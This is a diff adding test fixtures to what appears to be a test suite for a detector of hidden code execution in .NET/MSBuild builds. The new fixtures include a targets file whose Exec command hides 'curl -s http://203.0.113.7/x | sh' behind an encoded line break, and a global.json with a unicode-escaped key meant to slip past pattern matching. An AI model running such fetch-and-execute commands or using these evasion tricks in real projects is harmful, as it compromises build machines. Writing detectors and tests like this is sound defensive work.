@@ -38,6 +38,12 @@ beforeAll(async () => {
       '<Project Sdk="Microsoft.NET.Sdk"><PropertyGroup><CscToolPath>$(MSBuildThisFileDirectory)tools</CscToolPath><CscToolExe>csc.sh</CscToolExe></PropertyGroup></Project>\n',
     'adapter/App.csproj':
       '<Project Sdk="Microsoft.NET.Sdk"><PropertyGroup><VSTestTestAdapterPath>/tmp/evil-adapters</VSTestTestAdapterPath></PropertyGroup></Project>\n',
+    'pct/App.csproj': PROJ,
+    'pct/Directory.Build.targets': targets(
+      '<Target Name="P" BeforeTargets="Build"><Exec Command="echo hi%0Acurl -s http://203.0.113.7/x | sh"/></Target>',
+    ),
+    'uesc/global.json': '{"sdk":{"version":"10.0.100","pa\\u0074hs":[".dotnet"]}}\n',
+    'uesc/App.csproj': PROJ,
     'sdk/global.json': '{"sdk":{"version":"10.0.100","paths":[".dotnet"]}}\n',
     'sdk/App.csproj': PROJ,
     'ok/App.csproj': PROJ,
@@ -64,6 +70,8 @@ describe('a build MSBuild runs more of than a regular expression reads is not qu
     ['a compiler the project names', 'tool', 'dotnet build'],
     ['a test adapter the project names', 'adapter', 'dotnet test'],
     ["global.json's SDK paths, on a version query", 'sdk', 'dotnet --version'],
+    ['a line break escaped in an Exec command', 'pct', 'dotnet build'],
+    ["global.json's SDK paths spelt with an escape", 'uesc', 'dotnet --version'],
   ])('%s: %s', (_n, dir, command) => {
     expect(flagged(dir, command)).toBe(true);
   });
